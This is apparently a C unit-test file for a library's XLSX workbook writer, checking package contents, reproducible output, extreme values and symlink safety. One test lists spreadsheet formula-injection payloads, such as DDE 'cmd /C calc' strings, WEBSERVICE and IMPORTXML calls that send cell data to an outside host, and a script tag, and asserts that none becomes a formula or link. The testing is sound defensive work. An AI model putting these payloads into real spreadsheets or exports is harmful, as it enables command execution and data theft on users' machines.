/* The writer: what is in the package, that hostile texts do no harm, that a second run gives the
 * same bytes. */
#include "testing.h"

#include <string.h>

#include "casebook/xlsx.h"
#include "report/xlsx_private.h"
#include "workbook_demo.h"
#include "zip_edit.h"

static void write_demo(const char *path, unsigned cases)
{
    cb_arena *arena = cb_arena_new(NULL, 0);
    cb_error err = {.status = CB_OK};
    cb_workbook *w = demo_workbook(arena, cases);
    (void)unlink(path);
    CHECK(cb_xlsx_write(w, path, test_folder(), &err) == CB_OK, "%s", err.why);
    CHECK(cb_xlsx_verify(w, path, &err) == CB_OK, "%s", err.why);
    cb_arena_free(arena);
}

static bool has(zip_file *zip, const char *part, const char *text)
{
    zip_part *found = zip_find(zip, part);
    CHECK(found != NULL, "no part %s", part);
    return strstr(found->bytes, text) != NULL;
}

/* CB_KEEP=FOLDER keeps the workbook for a look at it. */
static void test_demo(void **state)
{
    (void)state;
    static const struct {
        const char *part, *text;
    } wanted[] = {
        {"xl/workbook.xml",
         "<definedName name=\"annual_loss_rate\">'Assumptions'!$B$6</definedName>"},
        {"xl/workbook.xml", "fullCalcOnLoad=\"1\""},
        {"xl/worksheets/sheet1.xml",
         "<f>ROUND(customers_after_problem*annual_loss_rate*annual_value,2)</f><v>1234544.22</v>"},
        {"xl/worksheets/sheet1.xml", "location=\"'Problems'!A4\""},
        {"xl/worksheets/sheet1.xml", "showGridLines=\"0\""},
        {"xl/worksheets/sheet1.xml", "fitToPage=\"1\""},
        {"xl/worksheets/sheet1.xml", "orientation=\"landscape\""},
        {"xl/worksheets/sheet1.xml", "casebook run 3f2a9c &amp;&amp; co"},
        {"xl/worksheets/sheet2.xml", "<f>SUM($B$7:$B$12)</f><v>2021</v>"},
        {"xl/worksheets/sheet5.xml", "<dataValidation type=\"decimal\""},
        {"xl/worksheets/sheet5.xml", "<formula1>0</formula1><formula2>0.5</formula2>"},
        {"xl/worksheets/sheet6.xml", "state=\"frozen\""},
        {"xl/worksheets/sheet6.xml", "ySplit=\"5\""},
        {"xl/worksheets/sheet7.xml", "orientation=\"portrait\""},
        {"xl/tables/table1.xml", "displayName=\"tbl_cases\" ref=\"A5:H405\""},
        {"xl/drawings/drawing1.xml",
         "descr=\"Bar chart of the yearly churn cost by kind of problem;"},
        {"xl/charts/chart1.xml", "<c:barDir val=\"bar\"/>"},
        {"xl/charts/chart1.xml", "Problems!$F$7:$F$12"},
        {"xl/charts/chart6.xml", "<c:lineChart>"},
        {"xl/charts/chart7.xml", "<c:scatterChart>"},
        {"xl/charts/chart4.xml", "<c:grouping val=\"stacked\"/>"},
        {"xl/sharedStrings.xml", "part _x005F_x0041_ in stock"},
        {"xl/sharedStrings.xml", "<t>=HYPERLINK("},
        {"xl/styles.xml", "formatCode=\"#,##0.00\""},
        {"xl/styles.xml", "formatCode=\"0.0 %\""},
        {"xl/styles.xml", "formatCode=\"yyyy-mm-dd hh:mm\""},
        {"docProps/core.xml", "2026-09-30T23:59:59Z"},
    };
    const char *folder = getenv("CB_KEEP");
    char path[320];
    zip_file zip;
    if (folder)
        (void)snprintf(path, sizeof path, "%s/demo.xlsx", folder);
    write_demo(folder ? path : test_path(path, "demo.xlsx"), 400);
    zip_load(&zip, path);
    for (size_t i = 0; i < COUNT_OF(wanted); i++)
        CHECK(has(&zip, wanted[i].part, wanted[i].text), "row %zu: %s lacks %s", i, wanted[i].part,
              wanted[i].text);
    zip_free(&zip);
}

static void test_same_bytes_on_a_second_run(void **state)
{
    (void)state;
    char one[320], two[320];
    size_t n = 0, m = 0;
    write_demo(test_path(one, "one.xlsx"), 50);
    write_demo(test_path(two, "two.xlsx"), 50);
    char *a = read_whole(one, &n), *b = read_whole(two, &m);
    assert_true(n > 20000 && n == m && memcmp(a, b, n) == 0);
    free(a);
    free(b);
}

/* Cells that other programs would take for formulas, links or commands (OWASP's list and its
 * neighbours). */
// clang-format off
static const char *const payloads[] = {
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "=HYPERLINK(\"http://x.example\",\"y\")",
    "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")", "=WEBSERVICE(\"http://x.example\")", "http://x.example/?q=1",
    "https://x.example", "ftp://x.example", "mailto:a@x.example", "internal:Sheet1!A1", "external:c:\\x.xlsx", "file:///x",
    "{=SUM(1)}", "'=1+1", "\"=1+1\"", "<script>alert(1)</script>", "<f>1+1</f>", "</t></si>", "&lt;f&gt;", "]]>", "<!DOCTYPE x>",
    "<?xml version=\"1.0\"?>", "_x003D_1+1", "_x0000_", "DDE(\"cmd\";\"/C calc\";\"x\")", "%0A=1+1", "\xEF\xBB\xBF=1+1", "\xEF\xBC\x9D" "1+1",
    "=\xE2\x80\x8B" "1+1", "|calc", ";=1+1", ",=1+1", "\x01=1+1", "a\0=1+1", "#REF!", "#N/A", "TRUE", "1E5", "00123", "1/2", "2026-09-30",
};
// clang-format on

static void test_no_text_becomes_a_formula(void **state)
{
    (void)state;
    static const cb_grid_column columns[] = {{"=1+1", CB_CELL_TEXT, 0, 0, "=1+1"},
                                             {"Text", CB_CELL_TEXT, 0, 0, NULL}};
    cb_arena *arena = cb_arena_new(NULL, 0);
    cb_error err = {.status = CB_OK};
    char path[320];
    zip_file zip;
    cb_workbook *w = cb_workbook_new(arena, "hostile", "=1+1");
    cb_sheet *s = cb_workbook_sheet(w, "Cells", "=1+1", "@x");
    cb_sheet_paragraph(s, "%s", "=1+1");
    cb_grid *g = cb_sheet_grid(s, "g", "=1+1", columns, 2);
    g->filter = true;
    for (size_t i = 0; i < COUNT_OF(payloads); i++) {
        cb_grid_row(g);
        cb_put_text(g, 0, cb_str_of(payloads[i]));
        cb_put_none(g, 1, payloads[i]);
    }
    cb_put_number(g, 1, 1);
    cb_chart *c = cb_sheet_chart(s, CB_CHART_COLUMN, "=1+1", "=A1", "=Cells!A1");
    cb_chart_series(c, g, 0, 1, "=Cells!$A$1", CB_LOOK_MAIN);
    cb_chart_alt(c, "=1+1");
    CHECK(cb_xlsx_write(w, test_path(path, "hostile.xlsx"), test_folder(), &err) == CB_OK, "%s",
          err.why);
    CHECK(cb_xlsx_verify(w, path, &err) == CB_OK, "%s", err.why);
    zip_load(&zip, path);
    for (size_t i = 0; i < zip.parts; i++) {
        const char *name = zip.part[i].name, *bytes = zip.part[i].bytes;
        CHECK(!strstr(bytes, "<hyperlink") && !strstr(bytes, "TargetMode"), "%s has a link", name);
        CHECK(!strstr(name, "worksheets/sheet") || !strstr(bytes, "<f>"), "%s has a formula", name);
        CHECK(!strstr(name, "charts/") || !strstr(bytes, "<c:f>="), "%s has a formula", name);
        CHECK(!strstr(bytes, "externalLink") && !strstr(bytes, "<!DOCTYPE"),
              "%s has an external link", name);
    }
    zip_free(&zip);
    cb_arena_free(arena);
}

static void test_extreme_values_come_back(void **state)
{
    (void)state;
    static const cb_grid_column columns[] = {{"N", CB_CELL_NUMBER, 3, 0, NULL},
                                             {"M", CB_CELL_MONEY, 2, 0, NULL},
                                             {"T", CB_CELL_TEXT, 0, 0, NULL}};
    static const double numbers[] = {0,
                                     -0.0,
                                     1e-300,
                                     1e300,
                                     9.95,
                                     0.1,
                                     1.0 / 3,
                                     -123456.789,
                                     8.41,
                                     1e15,
                                     123456789012345678.0,
                                     5e-324,
                                     1.7976931348623157e308};
    static const int64_t amounts[] = {0,
                                      1,
                                      -1,
                                      995,
                                      INT64_C(999999999999999),
                                      INT64_C(1000000000000000),
                                      INT64_MAX,
                                      INT64_MIN + 1};
    cb_arena *arena = cb_arena_new(NULL, 0);
    cb_error err = {.status = CB_OK};
    char path[320], *large = malloc(100001);
    uint64_t seed = 7;
    cb_workbook *w = cb_workbook_new(arena, "extreme", "Extreme");
    cb_grid *g = cb_sheet_grid(cb_workbook_sheet(w, "Cells", "t", NULL), "g", "", columns, 3);
    for (size_t i = 0; i < 3000; i++) {
        cb_grid_row(g);
        cb_put_number(g, 0,
                      i < COUNT_OF(numbers)
                          ? numbers[i]
                          : ldexp((double)(int64_t)test_random(&seed), (int)(i % 200) - 160));
        cb_put_money(g, 1,
                     i < COUNT_OF(amounts) ? amounts[i] : (int64_t)test_random(&seed) >> (i % 60));
    }
    for (size_t i = 0; i <= 100000; i++)
        large[i] = i % 50 ? 'x' : '\n';
    cb_put_text(g, 2, (cb_str){large, 100000});
    assert_int_equal(w->texts_mended, 1);
    CHECK(cb_xlsx_write(w, test_path(path, "extreme.xlsx"), test_folder(), &err) == CB_OK, "%s",
          err.why);
    CHECK(cb_xlsx_verify(w, path, &err) == CB_OK, "%s", err.why);
    zip_file zip;
    zip_load(&zip, path);
    assert_false(has(&zip, "xl/worksheets/sheet1.xml", "NAN") ||
                 has(&zip, "xl/worksheets/sheet1.xml", "nan") ||
                 has(&zip, "xl/worksheets/sheet1.xml", "INF") ||
                 has(&zip, "xl/worksheets/sheet1.xml", "inf"));
    assert_true(has(&zip, "xl/sharedStrings.xml", "92233720368547758.07"));
    zip_free(&zip);
    free(large);
    cb_arena_free(arena);
}

static void test_empty_things(void **state)
{
    (void)state;
    static const cb_grid_column columns[] = {{"A", CB_CELL_TEXT, 0, 0, NULL},
                                             {"B", CB_CELL_NUMBER, 1, 0, NULL}};
    cb_arena *arena = cb_arena_new(NULL, 0);
    cb_error err = {.status = CB_OK};
    char path[320];
    cb_workbook *w = cb_workbook_new(arena, "empty", "");
    CHECK(cb_xlsx_write(w, test_path(path, "none.xlsx"), test_folder(), &err) == CB_ECANTCREAT,
          "a workbook without a sheet");
    cb_error_clear(&err);
    cb_workbook_sheet(w, "Nothing", "", NULL);
    cb_sheet *s = cb_workbook_sheet(w, "Empty", "t", "");
    cb_grid *g = cb_sheet_grid(s, "g", "No rows", columns, 2);
    g->filter = true;
    cb_chart *c = cb_sheet_chart(s, CB_CHART_LINE, "Nothing to draw", "x", "y");
    cb_chart_series(c, g, 0, 1, "s", CB_LOOK_MAIN);
    (void)cb_sheet_chart(s, CB_CHART_LINE, "No series", "x", "y");
    cb_grid *total = cb_sheet_grid(s, "h", "Only a total", columns, 2);
    total->filter = true;
    cb_grid_row(total);
    cb_grid_total(total);
    cb_put_text(total, 0, CB_LIT(""));
    cb_set_formula(total, 1, "=SUM({h!1})");
    CHECK(cb_xlsx_write(w, test_path(path, "empty.xlsx"), test_folder(), &err) == CB_OK, "%s",
          err.why);
    CHECK(cb_xlsx_verify(w, path, &err) == CB_OK, "%s", err.why);
    cb_arena_free(arena);
}

static void test_target_exists(void **state)
{
    (void)state;
    char path[320], victim[320];
    size_t n = 0;
    cb_arena *arena = cb_arena_new(NULL, 0);
    cb_workbook *w = demo_workbook(arena, 2);
    write_whole(test_path(victim, "victim"), "keep me", 7);
    assert_int_equal(symlink(victim, test_path(path, "link.xlsx")), 0);
    assert_int_equal(cb_xlsx_write(w, path, test_folder(), NULL), CB_ECANTCREAT);
    char *bytes = read_whole(victim, &n);
    assert_string_equal(bytes, "keep me");
    free(bytes);
    assert_int_equal(cb_xlsx_write(w, "/nowhere/at/all.xlsx", test_folder(), NULL), CB_EIO);
    cb_arena_free(arena);
}

static int remove_folder(void **state)
{
    (void)state;
    static const char *const names[] = {"demo.xlsx",    "one.xlsx",   "two.xlsx", "hostile.xlsx",
                                        "extreme.xlsx", "empty.xlsx", "victim",   "link.xlsx"};
    char path[320];
    for (size_t i = 0; i < COUNT_OF(names); i++)
        (void)unlink(test_path(path, names[i]));
    return rmdir(test_folder()); /* fails if the library left anything behind */
}

static void test_number_formats(void **state)
{
    static const struct {
        cb_cell_kind kind;
        unsigned decimals;
        const char *want;
    } rows[] = {{CB_CELL_NUMBER, 2, "#,##0.00"},
                {CB_CELL_COUNT, 0, "#,##0"},
                {CB_CELL_PERCENT, 1, "0.0 %"},
                {CB_CELL_P, 3, "[<0.0005]\"< 0.001\";0.000"},
                {CB_CELL_P, 2, "[<0.005]\"< 0.01\";0.00"}};
    (void)state;
    for (size_t i = 0; i < COUNT_OF(rows); i++) {
        char got[CB_MAX_NUMBER_FORMAT];
        cb_xlsx_number_format(got, rows[i].kind, rows[i].decimals);
        CHECK(!strcmp(got, rows[i].want), "%s, not %s", got, rows[i].want);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_demo),
        cmocka_unit_test(test_number_formats),
        cmocka_unit_test(test_same_bytes_on_a_second_run),
        cmocka_unit_test(test_no_text_becomes_a_formula),
        cmocka_unit_test(test_extreme_values_come_back),
        cmocka_unit_test(test_empty_things),
        cmocka_unit_test(test_target_exists),
    };
    return cmocka_run_group_tests(tests, NULL, remove_folder);
}
